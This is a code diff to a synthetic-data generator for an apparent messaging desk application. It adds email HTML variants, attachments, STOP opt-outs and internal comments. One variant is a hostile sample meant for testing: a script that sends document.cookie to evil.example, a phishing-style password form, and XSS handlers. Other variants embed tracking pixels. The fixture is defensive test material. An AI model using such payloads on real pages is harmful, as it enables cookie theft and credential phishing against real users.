@@ -1,7 +1,9 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 #include "practice/generator.h"
 
+#include "practice/media.h"
 #include "practice/names.h"
+#include "practice/people.h"
 #include "practice/phrases.h"
 
 #include <algorithm>
@@ -154,6 +156,8 @@ void makeContact(World &world, Index i, int bulkFrom)
             c.rest().dndSettings[channel] = {permanent ? QStringLiteral("permanent") : QStringLiteral("active"),
                                              permanent ? QStringLiteral("STOP_KEYWORD") : QString(), QString()};
         }
+        if (i % 29 == 9)
+            c.rest().dndSettings[QStringLiteral("Email")] = {QStringLiteral("inactive"), QString(), QString()};
         if (i % 61 == 30)
             c.dnd = true;
         if (i % 37 == 11)
@@ -227,6 +231,29 @@ Message &append(World &world, Index conversation, Type type, bool inbound, qint6
     return world.messages.back();
 }
 
+/// What arrives in a mailbox: mostly plain, some as newsletters are made, some of it hostile.
+QString htmlOf(const QString &text, quint64 salt)
+{
+    const QString plain = QStringLiteral("<p>%1</p>").arg(text.toHtmlEscaped().replace(u'\n', QStringLiteral("<br>")));
+    switch (salt % 6) {
+    case 0: // a letter built of tables, with a picture of one pixel that tells who reads it
+        return QStringLiteral("<html><head><style>td{font-family:Georgia}</style></head><body bgcolor=\"#eeeeee\"><table width=\"100%\">"
+                              "<tr><td align=\"center\"><table width=\"600\" cellpadding=\"12\"><tr><td><table><tr><td><b>Harborline"
+                              "</b></td></tr></table></td></tr><tr><td>%1</td></tr></table></td></tr></table><img src=\"%2\" width=\"1\" "
+                              "height=\"1\"></body></html>").arg(plain, media::pixel(salt % 1000));
+    case 1: // what must never run
+        return QStringLiteral("<script>document.location='https://evil.example/?c='+document.cookie</script>%1"
+                              "<a href=\"javascript:alert(1)\" onclick=\"alert(2)\">Confirm your address</a>"
+                              "<iframe src=\"https://evil.example/\"></iframe><form action=\"https://evil.example/login\">"
+                              "<input name=\"password\"></form><img src=\"%2\" onerror=\"alert(3)\">").arg(plain, media::pixel(salt % 1000));
+    case 2:
+        return plain + QStringLiteral("<p><img src=\"%1\" alt=\"The house\"></p><p style=\"color:#888;background:url("
+                                      "https://track.example/open.gif)\">Sent from my phone</p>").arg(media::picture(salt % 50));
+    default:
+        return plain;
+    }
+}
+
 void addresses(World &world, Message &m, const Contact &contact)
 {
     if (m.type != Type::Email)
@@ -238,8 +265,9 @@ void addresses(World &world, Message &m, const Contact &contact)
     if (m.text >= 0) {
         const QString whole = world.text(m);
         more.subject = whole.section(u'|', 0, 0);
-        more.html = QStringLiteral("<p>%1</p>")
-                        .arg(whole.section(u'|', 1).toHtmlEscaped().replace(u'\n', QStringLiteral("<br>")));
+        more.html = htmlOf(whole.section(u'|', 1), mix(world.seed ^ static_cast<quint64>(m.added)));
+        if (whole.contains(u"attached"))
+            more.attachments = {media::document(QStringLiteral("floor-plan.pdf")), media::document(QStringLiteral("bill.pdf"))};
     }
 }
 
@@ -283,6 +311,15 @@ void extraEvents(World &world, Index conversation, qint64 at, Dice &dice)
         m.text = line;
         m.state = State::Delivered;
         m.origin = dice.chance(50) ? Origin::Workflow : dice.chance(50) ? Origin::Campaign : Origin::Bulk;
+    } else if (roll < 84) {
+        Message &m = append(world, conversation, Type::Sms, false, at);
+        m.text = world.keep(QStringLiteral("Your code for the lockbox is in the portal."));
+        m.state = State::Delivered;
+        m.origin = Origin::Api; // another program of the desk; nobody's name is on it
+    } else if (roll < 90) {
+        Message &m = append(world, conversation, Type::InternalComment, false, at);
+        m.text = world.keep(QStringLiteral("@Marcus please take this one, they want to see it on a weekday."));
+        m.user = static_cast<qint16>(dice.below(static_cast<int>(world.users.size())));
     }
 }
 
@@ -310,8 +347,17 @@ void talk(World &world, Index index, int wanted, qint64 end, Dice &dice)
             if (!inbound)
                 m.user = contact.assigned >= 0 ? contact.assigned : qint16{0};
             if (m.state == State::Failed)
-                m.rest().error = contact.landline ? QStringLiteral("Landline or unreachable carrier (30006)")
-                                                  : QStringLiteral("Unknown destination handset (30005)");
+                m.rest().error = contact.landline ? landlineWords() : failureWords(dice.roll());
+            if (m.state == State::Undelivered)
+                m.rest().error = failureWords(dice.roll());
+            if (inbound && m.type == Type::Sms) {
+                // Some texts bring pictures, and one in six of those is no longer where it was.
+                const quint64 luck = mix(world.seed ^ (quint64{index} << 24) ^ static_cast<quint64>(told));
+                if (luck % 19 == 0)
+                    m.rest().attachments.append(luck % 114 == 0 ? media::gone(luck % 500) : media::picture(luck % 500));
+                if (luck % 76 == 0)
+                    m.rest().attachments.append(media::picture(luck % 500 + 1));
+            }
             addresses(world, m, contact);
         }
         if (told < wanted && dice.chance(45)) {
@@ -367,6 +413,18 @@ void leadTalk(World &world, Index index, int number, qint64 end, Dice &dice)
     }
 }
 
+/// One in twenty wants no more texts and has said so.
+constexpr int stopAt = 11;
+
+void saysStop(World &world, Index index, qint64 at)
+{
+    Message &m = append(world, index, Type::Sms, true, at);
+    m.text = world.keep(QStringLiteral("STOP"));
+    m.state = State::Delivered;
+    world.contacts[world.conversations[index].contact].rest().dndSettings[QStringLiteral("SMS")] = {
+        QStringLiteral("permanent"), QStringLiteral("STOP_KEYWORD"), QString()};
+}
+
 void makeConversations(World &world, const WorldSize &size)
 {
     const int count = std::min(size.conversations, static_cast<int>(world.contacts.size()));
@@ -400,13 +458,15 @@ void makeConversations(World &world, const WorldSize &size)
             leadTalk(world, index, i / leadEvery, share, dice);
         else
             talk(world, index, wanted, share, dice);
+        if (i % 20 == stopAt)
+            saysStop(world, index, share + 30'000);
         Conversation &done = world.conversations[index];
         const Message &last = world.messages.back();
         done.added = world.messages[first].added;
         done.updated = done.lastMessage = last.added;
         for (size_t m = world.messages.size(); m > first; --m) {
             const Message &message = world.messages[m - 1];
-            if (!message.inbound && message.origin == Origin::App) {
+            if (!message.inbound && message.origin == Origin::App && message.type != Type::InternalComment) {
                 done.lastManual = message.added;
                 break;
             }
